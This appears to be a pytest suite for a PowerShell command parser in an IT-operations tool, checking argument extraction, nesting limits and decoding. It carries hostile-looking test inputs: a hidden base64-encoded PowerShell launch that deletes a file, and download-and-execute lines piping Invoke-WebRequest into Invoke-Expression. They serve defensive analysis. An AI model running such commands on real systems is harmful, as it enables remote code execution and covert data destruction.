"""The true words of every command of a PowerShell text, or a problem; whatever the text is."""

import base64
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from itops.domain.effect import Effect
from itops.scripts import powershell_reader
from itops.scripts.findings import DEPTH_LIMIT, TEXT_LIMIT
from itops.scripts.powershell_reader import read_powershell_facts

CASES = yaml.safe_load((Path(__file__).parents[2] / "cases" / "scripts" / "powershell_shapes.yaml").read_text())
ALPHABET = "abrm $(){}[]<>|&;,'\"`\\\n=@#%?.:~-/0–’”"  # noqa: RUF001 - typographic signs are syntax in PowerShell


@pytest.mark.parametrize("case", CASES, ids=[case["text"] for case in CASES])
def test_the_true_words_of_every_command_or_a_problem(case):
    facts = read_powershell_facts(case["text"])
    assert [list(command.argv) for command in facts.commands] == case["argv"]
    assert bool(facts.problems) == case.get("problem", False), facts.problems
    assert [path for command in facts.commands for path in command.writes] == case.get("writes", [])


def test_the_suite_is_long():
    assert len(CASES) >= 100


@given(st.one_of(st.text(max_size=200), st.text(alphabet=ALPHABET, max_size=60), st.binary(max_size=80)))
@settings(max_examples=200)
def test_no_text_crashes_it(text):
    text = text if isinstance(text, str) else text.decode("utf-8", errors="surrogateescape")
    facts = read_powershell_facts(text)
    assert facts.commands or facts.problems or facts.effect is Effect.READ


@pytest.mark.parametrize("case", [case for case in CASES if len(case["text"]) < 80], ids=lambda case: case["text"])
def test_no_cut_text_crashes_it(case):
    text = case["text"]
    for end in range(0, len(text), 5):
        read_powershell_facts(text[:end])


@pytest.mark.parametrize(
    "text", ["$(" * 3000, "(" * 8000, "{ " * 5000, "@{a=" * 3000, "[" * 9999, "`" * 9999, "'" * 9999, '"$(' * 3000]
)
def test_deep_nesting_is_a_problem_and_no_crash(text):
    assert read_powershell_facts(text).problems


def test_what_is_too_long_is_not_read():
    assert "more than 16384 bytes" in read_powershell_facts("#" * 20_000).problems[0]


def test_texts_within_texts_end_somewhere():
    deep = "ls"
    for _ in range(DEPTH_LIMIT + 3):
        deep = f"iex '{deep.replace(chr(39), chr(39) * 2)}'"[:16_000]
    assert read_powershell_facts(deep).problems
    many = "iex 'ls'\n" * (TEXT_LIMIT + 1)
    assert any("nested" in problem for problem in read_powershell_facts(many).problems)


def test_an_encoded_text_is_read_as_what_it_is():
    hidden = base64.b64encode("'rm x' | iex".encode("utf-16-le")).decode()
    [command] = read_powershell_facts(f"powershell -NoP -W Hidden -Enc {hidden}").commands
    assert command.argv == ("Remove-Item", "x")
    assert command.wrappers == ("powershell.exe", "Invoke-Expression")


def test_what_feeds_a_command_is_told_through_pipes_words_and_variables():
    piped, worded, given_ = (
        read_powershell_facts(text).commands[-1]
        for text in ("iwr http://x | iex", "iex (iwr http://x)", "$x = iwr http://x; iex $x")
    )
    assert piped.fed_by == worded.fed_by == given_.fed_by == ("Invoke-WebRequest",)


def test_a_tree_too_deep_for_python_is_a_problem(monkeypatch):
    def deep(_text):
        raise RecursionError

    monkeypatch.setattr(powershell_reader, "read_powershell", deep)
    assert read_powershell_facts("ls").problems == ("it can't be read: it is nested too deeply",)
